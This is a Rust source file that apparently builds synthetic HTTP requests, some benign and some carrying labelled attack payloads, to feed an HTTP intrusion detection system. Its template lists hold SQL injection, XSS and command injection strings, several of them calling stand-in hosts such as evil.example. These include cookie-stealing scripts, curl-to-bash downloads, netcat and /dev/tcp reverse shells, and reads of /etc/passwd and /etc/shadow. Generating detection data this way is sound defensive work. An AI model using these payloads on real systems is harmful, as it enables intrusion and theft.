//! Synthetic HTTP requests: benign browsing plus mutated attack payloads.

use std::fmt;
use std::str::FromStr;

use percent_encoding::{utf8_percent_encode, AsciiSet, CONTROLS};
use rand::seq::SliceRandom;
use rand::Rng;

use crate::http_ids::AttackLabel;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum PayloadClass {
    Benign,
    Attack(AttackLabel),
}

impl fmt::Display for PayloadClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PayloadClass::Benign => f.write_str("benign"),
            PayloadClass::Attack(l) => f.write_str(&l.as_str().to_lowercase()),
        }
    }
}

impl FromStr for PayloadClass {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        if s.eq_ignore_ascii_case("benign") {
            Ok(PayloadClass::Benign)
        } else {
            s.parse().map(PayloadClass::Attack).map_err(|_| format!("unknown payload class `{s}`"))
        }
    }
}

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15 Version/16.6 Safari/605.1.15",
    "curl/7.88.1",
    "python-requests/2.31.0",
];

const PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/products",
    "/product",
    "/search",
    "/cart",
    "/login",
    "/account",
    "/news",
    "/about",
    "/contact",
    "/blog/post",
    "/api/items",
    "/static/app.js",
    "/static/style.css",
    "/images/logo.png",
];

const PARAMS: &[&str] = &["id", "q", "page", "sort", "category", "user", "name", "ref", "lang", "item", "file", "host"];

/// Ordinary words, a few of which overlap with attack vocabularies.
const WORDS: &[&str] = &[
    "shoes", "red", "blue", "summer", "sale", "laptop", "phone", "case", "garden", "chair", "table", "lamp", "coffee",
    "tea", "book", "music", "travel", "winter", "jacket", "kids", "toys", "price", "newest", "popular", "en", "de",
    "fr", "home", "office", "update", "select", "order", "from", "and", "drop", "ship", "cat", "echo", "ping", "shop",
    "alert", "image", "style", "delay",
];

const SQLI_TEMPLATES: &[&str] = &[
    "{n}' OR '1'='1",
    "{n} OR 1=1--",
    "' OR 1=1#",
    "{n} UNION SELECT {col},{col2} FROM {tbl}--",
    "{n}' UNION ALL SELECT NULL,NULL,{col} FROM {tbl}-- -",
    "{n}; DROP TABLE {tbl}--",
    "{n}' AND SLEEP({d})#",
    "{n} AND BENCHMARK(5000000,MD5({n}))",
    "'; WAITFOR DELAY '0:0:{d}'--",
    "{n} ORDER BY {d}--",
    "{n} GROUP BY {col} HAVING 1=1--",
    "admin'--",
    "{n}' AND 1=CAST(version() AS int)--",
    "' UNION SELECT @@version,NULL--",
    "{n} AND (SELECT COUNT(*) FROM information_schema.tables)>0",
    "{n}; EXEC xp_cmdshell('dir')--",
    "' OR 'x'='x' /* {tbl} */",
    "{n} UNION SELECT CONCAT({col},0x3a,{col2}) FROM {tbl}",
    "{n}' OR ASCII(SUBSTRING((SELECT {col} FROM {tbl} LIMIT 1),1,1))>64--",
    "'; INSERT INTO {tbl} VALUES ('{n}','x')--",
    "{n}'; UPDATE {tbl} SET {col}='x' WHERE 1=1--",
];

const XSS_TEMPLATES: &[&str] = &[
    "<script>alert({n})</script>",
    "<script>alert(document.cookie)</script>",
    "\"><script>document.location='http://{h}/?c='+document.cookie</script>",
    "<img src=x onerror=alert({n})>",
    "<img src=\"javascript:alert('{w}')\">",
    "<svg onload=prompt({n})>",
    "<svg/onload=confirm('{w}')>",
    "<body onload=alert({n})>",
    "<iframe src=\"javascript:alert({n})\"></iframe>",
    "javascript:alert(document.cookie)",
    "<a href=\"javascript:confirm({n})\">{w}</a>",
    "<input onfocus=alert({n}) autofocus>",
    "<div onmouseover=\"alert('{w}')\">{w}</div>",
    "<object data=\"javascript:alert({n})\"></object>",
    "<embed src=\"data:text/html,<script>alert({n})</script>\">",
    "<style>@import 'javascript:alert({n})';</style>",
    "<script>document.write('<img src=http://{h}/'+document.cookie+'>')</script>",
    "<img src=x onerror=\"window.location='http://{h}/'\">",
    "';alert(String.fromCharCode(88,83,83))//",
    "<div style=\"width:expression(alert({n}))\">",
    "<p onclick=alert({n})>{w}</p>",
];

const OSC_TEMPLATES: &[&str] = &[
    "{w}; cat /etc/passwd",
    "{w} | whoami",
    "{w} && uname -a",
    "{w}; ls -la /tmp/",
    "$(wget http://{h}/{w}.sh -O /tmp/{w}.sh)",
    "{w}; curl http://{h}/x | bash",
    "{w}; nc -e /bin/sh {h} {p}",
    "{w} || ping -c {d} {h}",
    "{w}; rm -rf /tmp/{w}",
    "{w}; echo {w} > /tmp/{w}",
    "{w}; chmod +x /tmp/{w}; /tmp/{w}",
    "{w} && netstat -an",
    "{w} | ifconfig",
    "${{IFS}}cat${{IFS}}/etc/shadow",
    "{w}; nslookup {h}",
    "{w} & powershell -c whoami",
    "{w} && cmd.exe /c dir",
    "{w}; bash -i >& /dev/tcp/{h}/{p} 0>&1",
    "{w}; cat /etc/passwd 2>&1",
    "{w} | sh -c id > /dev/null",
    "{w}; /bin/busybox wget http://{h}/{w}",
];

const TABLES: &[&str] = &["users", "accounts", "orders", "admin", "members", "customers", "credentials"];
const COLUMNS: &[&str] = &["username", "password", "email", "pass", "login", "hash", "token"];
const HOSTS: &[&str] = &["203.0.113.9", "198.51.100.23", "evil.example", "cdn-update.example", "192.0.2.66"];

/// Characters escaped when a request is percent-encoded.
const QUERY_UNSAFE: &AsciiSet = &CONTROLS
    .add(b' ')
    .add(b'"')
    .add(b'#')
    .add(b'<')
    .add(b'>')
    .add(b'\'')
    .add(b';')
    .add(b'|')
    .add(b'&')
    .add(b'=')
    .add(b'(')
    .add(b')')
    .add(b'/')
    .add(b'`')
    .add(b'$')
    .add(b'{')
    .add(b'}');

fn pick<'a, R: Rng>(rng: &mut R, xs: &[&'a str]) -> &'a str {
    xs.choose(rng).expect("non-empty list")
}

fn fill<R: Rng>(rng: &mut R, template: &str) -> String {
    let mut s = template.to_string();
    let subs: [(&str, String); 8] = [
        ("{n}", rng.gen_range(1..10_000).to_string()),
        ("{d}", rng.gen_range(2..9).to_string()),
        ("{p}", rng.gen_range(1024..65535).to_string()),
        ("{tbl}", pick(rng, TABLES).to_string()),
        ("{col2}", pick(rng, COLUMNS).to_string()),
        ("{col}", pick(rng, COLUMNS).to_string()),
        ("{h}", pick(rng, HOSTS).to_string()),
        ("{w}", pick(rng, WORDS).to_string()),
    ];
    for (k, v) in subs {
        s = s.replace(k, &v);
    }
    s.replace("{{", "{").replace("}}", "}")
}

/// Random case flips; detection lowercases, so labels are unaffected.
fn flip_case<R: Rng>(rng: &mut R, s: &str) -> String {
    s.chars().map(|c| if rng.gen_bool(0.3) { c.to_ascii_uppercase() } else { c }).collect()
}

fn mutate<R: Rng>(rng: &mut R, label: AttackLabel, payload: String) -> String {
    let mut p = payload;
    if rng.gen_bool(0.4) {
        p = flip_case(rng, &p);
    }
    if label == AttackLabel::Sqli && rng.gen_bool(0.2) {
        p = p.replace(' ', "/**/");
    }
    p
}

fn benign_value<R: Rng>(rng: &mut R) -> String {
    match rng.gen_range(0..4) {
        0 => rng.gen_range(1..100_000).to_string(),
        1 => pick(rng, WORDS).to_string(),
        2 => format!("{} {}", pick(rng, WORDS), pick(rng, WORDS)),
        _ => format!("{}-{}", pick(rng, WORDS), rng.gen_range(1..500)),
    }
}

/// A mutated malicious parameter value of one class, before URL encoding.
pub fn attack_payload<R: Rng>(rng: &mut R, label: AttackLabel) -> String {
    let templates = match label {
        AttackLabel::Sqli => SQLI_TEMPLATES,
        AttackLabel::Xss => XSS_TEMPLATES,
        AttackLabel::Osc => OSC_TEMPLATES,
    };
    let template = pick(rng, templates);
    let raw = fill(rng, template);
    mutate(rng, label, raw)
}

fn encode<R: Rng>(rng: &mut R, value: &str) -> String {
    match rng.gen_range(0..3) {
        0 => value.replace(' ', "%20"),
        _ => utf8_percent_encode(value, QUERY_UNSAFE).to_string(),
    }
}

/// One complete request. Attack requests carry exactly one malicious
/// parameter value; every other value is benign.
pub fn http_request<R: Rng>(rng: &mut R, class: PayloadClass, host: &str) -> String {
    let path = pick(rng, PATHS);
    let n_params = rng.gen_range(if class == PayloadClass::Benign { 0..4 } else { 1..4 });
    let hostile = (n_params > 0).then(|| rng.gen_range(0..n_params));
    let mut params: Vec<String> = Vec::with_capacity(n_params);
    for i in 0..n_params {
        let key = pick(rng, PARAMS);
        let value = match class {
            PayloadClass::Attack(label) if Some(i) == hostile => attack_payload(rng, label),
            _ => benign_value(rng),
        };
        params.push(format!("{key}={}", encode(rng, &value)));
    }
    let query = params.join("&");
    let ua = pick(rng, USER_AGENTS);
    if !query.is_empty() && rng.gen_bool(0.3) {
        format!(
            "POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{query}",
            query.len()
        )
    } else {
        let target = if query.is_empty() { path.to_string() } else { format!("{path}?{query}") };
        format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n")
    }
}
